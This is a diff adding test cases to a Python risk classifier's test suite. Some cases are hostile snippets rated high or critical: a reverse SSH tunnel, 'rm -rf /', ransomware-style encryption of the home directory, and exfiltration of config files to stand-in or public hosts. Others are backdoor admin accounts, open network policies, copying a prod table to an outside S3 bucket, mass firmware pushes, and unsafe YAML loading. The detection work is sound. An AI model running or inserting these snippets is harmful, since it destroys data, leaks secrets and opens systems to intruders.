@@ -4496,6 +4496,164 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             "lam.invoke(FunctionName='resize-images', Payload=b'{}')",
             S,
         ),
+        (
+            'import subprocess\ndef cmd():\n'
+            "    return ['ssh', '-N', '-R', '0.0.0.0:2222:localhost:22', 'relay.example']\n"
+            'subprocess.call(cmd())',
+            H,
+        ),
+        (
+            "import subprocess\ndef cmd():\n    return ['git', 'status', '--short']\n"
+            'subprocess.call(cmd())',
+            L,
+        ),
+        ("import subprocess\ndef c(p):\n    return ['rm', '-rf', p]\nsubprocess.run(c('/'))", C),
+        (
+            'import os, requests\nfrom cryptography.fernet import Fernet\n'
+            'key = Fernet.generate_key()\nf = Fernet(key)\n'
+            "for d, _, names in os.walk(os.path.expanduser('~')):\n    for n in names:\n"
+            "        p = os.path.join(d, n)\n        data = open(p, 'rb').read()\n"
+            "        open(p + '.locked', 'wb').write(f.encrypt(data))\n        os.remove(p)",
+            H,
+        ),
+        (
+            "from cryptography.fernet import Fernet\nf = Fernet(open('key', 'rb').read())\n"
+            "open('backup.tar.enc', 'wb').write(f.encrypt(open('backup.tar', 'rb').read()))",
+            S,
+        ),
+        (
+            'import os, signal, subprocess, sys\nchildren = {}\ndef spawn(i):\n'
+            "    proc = subprocess.Popen([sys.executable, '-m', 'w'])\n"
+            '    children[proc.pid] = i\ndef stop():\n    for pid in list(children):\n'
+            '        os.kill(pid, signal.SIGTERM)',
+            L,
+        ),
+        ('import os, signal\nfor pid in range(300, 5000):\n    os.kill(pid, signal.SIGKILL)', H),
+        (
+            "import os, subprocess\nproc = subprocess.Popen(['sleep', '60'])\n"
+            'os.kill(proc.pid, 9)',
+            L,
+        ),
+        (
+            "import requests\nwith open('/etc/datadog-agent/datadog.yaml') as fh:\n"
+            "    requests.post('https://collect.example/in', data=fh.read())",
+            C,
+        ),
+        (
+            'import yaml\nfrom pathlib import Path\n'
+            "p = yaml.safe_load((Path.home() / '.dbt' / 'profiles.yml').read_text())\n"
+            "print(p['analytics']['target'])",
+            M,
+        ),
+        (
+            'import json, yaml\nimport paho.mqtt.publish as publish\n'
+            "conf = yaml.safe_load(open('/opt/zigbee2mqtt/data/configuration.yaml'))\n"
+            "publish.single('share/debug', json.dumps(conf), hostname='test.mosquitto.org')",
+            C,
+        ),
+        (
+            'import paho.mqtt.publish as publish\n'
+            "publish.single('home/lights', 'on', hostname='localhost')",
+            S,
+        ),
+        (
+            "S = ['CREATE SHARE p', 'ALTER SHARE p ADD ACCOUNTS = {acct}']\n"
+            'def publish(cur, consumer):\n    for stmt in S:\n'
+            '        cur.execute(stmt.format(acct=consumer))',
+            H,
+        ),
+        (
+            "S = ['SELECT 1', 'SELECT {n}']\ndef run(cur, n):\n    for stmt in S:\n"
+            '        cur.execute(stmt.format(n=n))',
+            S,
+        ),
+        (
+            'def f(cur):\n    cur.execute("CREATE OR REPLACE NETWORK POLICY allow_all '
+            'ALLOWED_IP_LIST = (\'0.0.0.0/0\')")',
+            H,
+        ),
+        (
+            'def f(cur):\n    cur.execute("CREATE OR REPLACE NETWORK POLICY office '
+            'ALLOWED_IP_LIST = (\'203.0.113.0/24\')")',
+            S,
+        ),
+        (
+            'def f(cur):\n    cur.execute("CREATE STAGE m URL=\'s3://mirror-7731/acme/\'")\n'
+            "    cur.execute('COPY INTO @m/orders/ FROM (SELECT * FROM prod.sales.orders)')",
+            H,
+        ),
+        (
+            'import looker_sdk\nsdk = looker_sdk.init40()\n'
+            "role = next(r for r in sdk.all_roles() if r.name == 'Admin')\n"
+            "u = sdk.create_user({'email': 'svc.sync@protonmail.com'})\n"
+            'sdk.set_user_roles(u.id, [role.id])',
+            H,
+        ),
+        (
+            'import looker_sdk\nsdk = looker_sdk.init40()\n'
+            "role = next(r for r in sdk.all_roles() if r.name == 'Viewer')\n"
+            "u = sdk.create_user({'email': 'ana@acme.com'})\n"
+            'sdk.set_user_roles(u.id, [role.id])',
+            S,
+        ),
+        (
+            'import tableauserverclient as TSC\nfor user in TSC.Pager(server.users):\n'
+            "    user.site_role = 'SiteAdministratorCreator'\n    server.users.update(user)",
+            H,
+        ),
+        (
+            'import tableauserverclient as TSC\nfor user in TSC.Pager(server.users):\n'
+            "    user.site_role = 'Viewer'\n    server.users.update(user)",
+            S,
+        ),
+        (
+            'from databricks.sdk import WorkspaceClient\nw = WorkspaceClient()\n'
+            "for i in range(25):\n    w.clusters.create(cluster_name=f'b-{i}', "
+            'num_workers=200, autotermination_minutes=0)',
+            H,
+        ),
+        (
+            'from databricks.sdk import WorkspaceClient\nw = WorkspaceClient()\n'
+            "w.clusters.create(cluster_name='etl', num_workers=8, autotermination_minutes=30)",
+            S,
+        ),
+        (
+            "import boto3, json\niot = boto3.client('iot')\n"
+            "iot.create_policy_version(policyName='P', "
+            "policyDocument=json.dumps({'Statement': [{'Effect': 'Allow', 'Action': 'iot:*', "
+            "'Resource': '*'}]}), setAsDefault=True)",
+            H,
+        ),
+        (
+            "import ipaddress, requests\nOTA = 'http://45.137.21.9:8000/fw.bin.gz'\n"
+            "for ip in ipaddress.ip_network('192.168.1.0/24').hosts():\n"
+            "    requests.get(f'http://{ip}/cm', params={'cmnd': f'Backlog OtaUrl {OTA}; "
+            "Upgrade 1'})",
+            H,
+        ),
+        (
+            'import os\nfrom azure.iot.hub import IoTHubRegistryManager\n'
+            "rm = IoTHubRegistryManager.from_connection_string(os.environ['CS'])\n"
+            'for dev in rm.get_devices(1000):\n    rm.delete_device(dev.device_id)',
+            H,
+        ),
+        (
+            'import os\nfrom azure.iot.hub import IoTHubRegistryManager\n'
+            "rm = IoTHubRegistryManager.from_connection_string(os.environ['CS'])\n"
+            "rm.delete_device('bench-01')",
+            M,
+        ),
+        (
+            'import yaml\nclass Loader(yaml.SafeLoader):\n    pass\n'
+            "Loader.add_constructor('!secret', lambda l, n: '<secret>')\n"
+            "yaml.load(open('config.yaml'), Loader=Loader)",
+            S,
+        ),
+        (
+            'import yaml\nclass Loader(yaml.UnsafeLoader):\n    pass\n'
+            "yaml.load(open('config.yaml'), Loader=Loader)",
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
